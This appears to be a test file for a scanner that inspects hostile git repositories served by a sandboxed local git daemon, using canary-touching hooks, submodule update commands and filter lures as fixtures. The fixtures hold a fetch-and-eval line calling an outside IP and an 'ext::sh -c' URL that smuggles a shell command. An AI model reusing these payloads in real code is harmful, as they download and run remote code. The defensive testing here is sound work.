/**
 * Hostile git repositories through the CLI, served by a real git daemon on loopback, under a global git config
 * whose hooks, filters, fsmonitor, pager and ssh command would each touch the canary (see harness.ts).
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { git, makeBareRepo, startGitDaemon, CLEAN_GIT_ENV, type Daemon } from '../git-daemon.js';
import { assertIncomplete, PACKAGE_LURE, sandbox, scanHostile, TASKS_LURE, type Sandbox } from './harness.js';

describe('hostile git repositories (CLI, git daemon, sandboxed)', function () {
  this.timeout(180_000);
  let sb: Sandbox;
  let served: string;
  let daemon: Daemon;

  before(async () => {
    sb = sandbox('git');
    served = path.join(sb.root, 'served');
    mkdirSync(served);
    const t = sb.touch;

    // A local repository with a hook that would touch the canary if anything checked it out and ran hooks.
    const evilSub = path.join(sb.root, 'evil-sub');
    makeBareRepo(sb.root, 'evil-sub-src', undefined, { 'install.js': `require("child_process").execSync("${t}")\n` });
    git(sb.root, ['clone', '-q', path.join(sb.root, 'evil-sub-src.git'), evilSub]);
    writeFileSync(path.join(evilSub, '.git', 'hooks', 'post-checkout'), `#!/bin/sh\n${t}\n`);
    chmodSync(path.join(evilSub, '.git', 'hooks', 'post-checkout'), 0o755);

    // G01: submodules at local paths (absolute, file://, relative), and a lure in the superproject.
    const work = path.join(sb.root, 'sub-work');
    mkdirSync(work);
    git(work, ['init', '-q', '-b', 'main']);
    writeFileSync(path.join(work, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0' }));
    git(work, ['add', '-A']);
    const subSha = git(evilSub, ['rev-parse', 'HEAD']).trim();
    for (const [p, url] of [
      ['vendor/a', evilSub],
      ['vendor/b', `file://${evilSub}`],
      ['vendor/c', '../../evil-sub'],
    ]) {
      git(work, ['update-index', '--add', '--cacheinfo', `160000,${subSha},${p}`]);
      execFileSync('git', ['config', '-f', '.gitmodules', `submodule.${p}.path`, p], { cwd: work, env: CLEAN_GIT_ENV });
      execFileSync('git', ['config', '-f', '.gitmodules', `submodule.${p}.url`, url], { cwd: work, env: CLEAN_GIT_ENV });
      execFileSync('git', ['config', '-f', '.gitmodules', `submodule.${p}.update`, `!${t}`], { cwd: work, env: CLEAN_GIT_ENV });
    }
    git(work, ['add', '.gitmodules']);
    git(work, ['commit', '-q', '-m', 'submodules']);
    git(sb.root, ['clone', '-q', '--bare', work, path.join(served, 'submodules.git')]);

    // G02: LFS pointers where the payload would be.
    const oid = 'a'.repeat(64);
    makeBareRepo(served, 'lfs', undefined, {
      '.gitattributes': '*.js filter=lfs diff=lfs merge=lfs -text\n',
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js' }),
      'index.js': `version https://git-lfs.github.com/spec/v1\noid sha256:${oid}\nsize 123456\n`,
      'postinstall.js': `version https://git-lfs.github.com/spec/v1\noid sha256:${'b'.repeat(64)}\nsize 999\n`,
    });

    // G03: .gitattributes asking for filters, textconv and ident on everything, with a lure.
    makeBareRepo(served, 'filters', undefined, {
      '.gitattributes': '* filter=evil diff=evil ident eol=crlf\n*.txt working-tree-encoding=UTF-16\n',
      '.vscode/tasks.json': TASKS_LURE,
    });

    // G04: a huge blob (30 MB, compresses to almost nothing) with the payload at its end.
    const hugeWork = path.join(served, 'huge-src');
    makeBareRepo(served, 'huge', undefined, {
      'dist/app.js': `${'/* pad */'.repeat(3_500_000)}\nfetch("http://45.61.1.2:1224/pdown").then(r=>r.text()).then(eval);\n`,
    });
    void hugeWork;

    // G05: a lure whose package.json is at the bottom of 150 nested folders.
    makeBareRepo(served, 'deep', undefined, { [`${Array.from({ length: 150 }, () => 'd').join('/')}/package.json`]: PACKAGE_LURE });

    daemon = await startGitDaemon(served);
  });

  after(async () => {
    await daemon?.stop();
    sb?.cleanup();
  });

  it('G01 submodules at local paths (absolute, file://, relative, update=!cmd) are never fetched; the scan says it is incomplete', async () => {
    const { result } = await scanHostile(sb, daemon.url('submodules'));
    assertIncomplete(result, 'submodule-not-followed');
    assert.equal(result!.diagnostics.filter((d) => d.code === 'submodule-not-followed').length, 3);
  });

  it('G02 LFS pointers: the content is not in the repository, so the scan is incomplete', async () => {
    const { result } = await scanHostile(sb, daemon.url('lfs'));
    assertIncomplete(result, 'lfs-pointer');
  });

  it('G03 .gitattributes filters, textconv and encodings: nothing runs, the lure is found', async () => {
    const { result } = await scanHostile(sb, daemon.url('filters'));
    assert.equal(result!.verdict, 'block');
  });

  it('G04 a 30 MB blob with the payload at its end: incomplete, not a pass', async () => {
    const { result } = await scanHostile(sb, daemon.url('huge'));
    assertIncomplete(result, 'file-too-large');
  });

  it('G05 a lure 150 folders deep in a git tree: incomplete', async () => {
    const { result } = await scanHostile(sb, daemon.url('deep'));
    assert.ok(result!.verdict !== 'pass' || !result!.complete, 'a hidden lure read as a clean pass');
  });

  it('G06 a missing repository, a refused protocol and a URL with a password: clear error, password never printed', async () => {
    for (const url of [daemon.url('nope'), `ext::sh -c ${sb.touch}`, `https://user:${sb.secret}@127.0.0.1:1/x.git`, `file://${path.join(served, 'filters.git')}`]) {
      const { run, result } = await scanHostile(sb, url);
      assert.ok(run.code === 2 || result, url);
    }
  });
});
